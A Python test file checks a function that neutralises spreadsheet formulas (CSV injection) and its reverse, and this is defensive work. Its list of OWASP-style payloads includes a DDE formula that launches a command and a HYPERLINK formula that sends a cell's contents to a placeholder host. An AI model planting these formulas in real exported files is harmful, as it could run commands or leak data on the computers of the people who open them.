from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sightglass.inputs.spreadsheet_cells import inert_cell, plain_cell

# From OWASP's page on CSV injection, and from what its tests try.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\tx",
    "\rx",
    "\nx",
    "＝1+1",
    "＋1",
    "－1",
    "＠a",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\xa0=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://a.example?x="&A1,"open").jpg',
    "-",
]
HARMLESS = ["", "a.jpg", "'", "''", "'a", "a=1+1", "1-1", " a", "~=", "日本語", "(=1)"]
OPENING = st.text(st.sampled_from("'\"=+-@ \t\r\n＝−a1\u200b\xa0"), max_size=6)
TEXTS = st.builds(str.__add__, OPENING, st.text(max_size=5))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_could_compute_gets_an_apostrophe(text: str) -> None:
    assert inert_cell(text) == "'" + text
    assert plain_cell(inert_cell(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_is_written_as_it_is(text: str) -> None:
    assert inert_cell(text) == plain_cell(text) == text


@given(TEXTS)
def test_every_text_comes_back_and_no_cell_begins_a_formula(text: str) -> None:
    cell = inert_cell(text)
    assert plain_cell(cell) == text
    assert not cell.strip(' "').startswith(tuple("=+-@＝＋－＠\t\r\n"))


@given(st.lists(TEXTS, min_size=2, unique=True))
def test_different_texts_stay_different(texts: list[str]) -> None:
    assert len({inert_cell(text) for text in texts}) == len(texts)


@given(st.lists(TEXTS.filter(lambda text: "\x00" not in text), min_size=2))
def test_cells_come_back_through_a_file(texts: list[str]) -> None:
    stream = io.StringIO()
    csv.writer(stream, lineterminator="\r\n").writerow(map(inert_cell, texts))
    (row,) = csv.reader(io.StringIO(stream.getvalue(), newline=""))
    assert list(map(plain_cell, row)) == texts
